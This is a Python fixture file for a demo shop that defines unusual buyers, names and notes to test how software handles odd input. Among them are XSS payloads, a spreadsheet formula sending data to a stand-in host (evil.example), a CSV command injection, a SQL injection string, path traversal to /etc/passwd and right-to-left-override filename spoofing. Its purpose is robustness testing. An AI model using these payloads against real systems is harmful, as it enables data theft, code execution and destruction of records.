"""People, notes and tags to trip over: the world's scripts, markup, formulas, invisible signs."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import timedelta

from fulfilldesk.demoshop.content import desk, people
from fulfilldesk.demoshop.content.calendar import Story, days, hours
from fulfilldesk.demoshop.content.checkout import Scene, custom
from fulfilldesk.demoshop.content.stories.tale import Tale, ordered
from fulfilldesk.demoshop.model import Address


@dataclass(frozen=True, slots=True)
class Oddity:
    """An unusual buyer; ``title`` is an odd custom item, if there is to be one."""

    name: str
    first: str | None
    last: str | None
    note: str | None = None
    tags: tuple[str, ...] = ()
    title: str | None = None
    email: str | None = None
    country: str = "NL"


LONG = "Maria-Magdalena Wilhelmina Elisabeth Johanna Petronella Cornelia Theodora Antoinette Francisca"
LONGER = "van Voorst tot Voorst-van Heeckeren van Kell-Schimmelpenninck van der Oye van Lynden van Sandenburg"
WORDLESS = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 3

ODDITIES = (
    Oddity("emoji", "Lotte 🚲", "Kramer 👩‍👧", "Dankjewel!! 🎉❤️🇳🇱", ("🎁 cadeau",), "Bel met 😀-sticker"),
    Oddity("hebrew", "אבי", "כהן", "נא להשאיר אצל השכן", ("חדש",)),
    Oddity("arabic", "محمد", "العلي", "يرجى الاتصال قبل التسليم", title="جرس دراجة"),
    Oddity("chinese", "小明", "王", "请放在门口", title="自行车铃铛"),
    Oddity("japanese", "花子", "佐藤", title="自転車のベル（真鍮）"),
    Oddity("korean", "민준", "김"),
    Oddity(
        "html", "<b>Vet</b>", "<i>Gedrukt</i>", "<h1>Groot</h1><script>alert(1)</script>", ("<u>tag</u>",)
    ),
    Oddity(
        "html image",
        "<img src=//evil.example/x.png>",
        "<a href='https://evil.example'>klik</a>",
        title='<img src="file:///etc/passwd" onerror="alert(1)">',
    ),
    Oddity(
        "formula",
        '=HYPERLINK("https://evil.example/?leak="&A1,"klik")',
        "+1+1",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        ("=1+1", "-2+3"),
        "=SUM(A1:A9)",
    ),
    Oddity("formula sign", "@SUM", "-2+3", "\t=1+1", title="+31 6 1234 5678"),
    Oddity("very long name", LONG, LONGER, "Lang verhaal. " * 300, title=WORDLESS),
    Oddity(
        "zero width", "San\u200bne\u200d", "\ufeffde\u2060Vries", "on\u00adzicht\u00adbaar", ("spo\u200bed",)
    ),
    Oddity("direction override", "Piet\u202egnp.exe", "\u2066Bakker\u2069", "factuur\u202efdp.exe"),
    Oddity("combining signs", "Z̸̢̛a̷l̶g̵o̶", "Zoe\u0308", title="e\u0301\u0301\u0301\u0301 band"),
    Oddity("quotes", "Robert'); DROP TABLE orders;--", '"O\'Neill" \\ %s {0} $HOME', "50% korting & gratis"),
    Oddity("control signs", "Regel\neen\r\ntwee", "Tab\thier", "nul\x01\x1b[31mrood", title="Nieuwe\nregel"),
    Oddity("first name only", "Cher", None),
    Oddity("last name only", None, "'t Hart"),
    Oddity("e-mail only", None, None, email="alleen.een.adres+shop@example.com"),
    Oddity("belgian", "Lieselot", "Van den Broeck", country="BE"),
    Oddity("german", "Jürgen", "Groß", "Bitte beim Nachbarn abgeben", country="DE"),
    Oddity("path", "..\\..\\CON", "../../etc/passwd", "C:\\Windows\\System32", ("a/b", "NUL"), "aux.csv"),
    Oddity("many tags", "Gijs", "IJzerman", tags=tuple(f"segment-{number:02d}" for number in range(60))),
)
_FIRST_AGE, _APART = 6.7, 2.9


def bought_by(oddity: Oddity) -> Callable[[Scene], Story]:
    """An order of this buyer, sent and delivered."""

    def story(scene: Scene) -> Story:
        person = people.named(
            scene.chance, oddity.first, oddity.last, country=oddity.country, email=oddity.email
        )
        person = people.register(scene.world, person, note=oddity.note, tags=oddity.tags)
        lines = scene.basket()
        if oddity.title is not None:
            lines.append(custom(oddity.title, "4.50"))
        order = ordered(scene, lines, person, note=oddity.note, tags=list(oddity.tags))
        yield hours(scene.chance.uniform(2, 9))
        yield from desk.travel(scene, desk.ship(scene, order))

    return story


def no_way_to_reach(scene: Scene) -> Story:
    """A customer without a name, an e-mail, a phone or a usable address."""
    person = people.register(scene.world, people.Person(None, None, None, None, Address(country_code="NL")))
    ordered(scene, person=person)
    yield hours(1)


def order_for_two(scene: Scene) -> Story:
    """Sent to somebody else than who paid: shipping and billing address differ."""
    payer = people.register(scene.world, people.named(scene.chance, "Noëlle", "d'Ancona"))
    friend = people.named(scene.chance, "IJsbrand", "van 't Hoff", country="BE")
    order = ordered(scene, person=replace(payer, address=friend.address), billing_address=payer.address)
    yield hours(4)
    yield from desk.travel(scene, desk.ship(scene, order))


def _age(place: int) -> timedelta:
    return days(_FIRST_AGE + _APART * place)


TALES = (
    *(Tale(oddity.name, _age(place), bought_by(oddity)) for place, oddity in enumerate(ODDITIES)),
    Tale("no way to reach", days(32), no_way_to_reach),
    Tale("sent to somebody else", days(5.7), order_for_two),
)
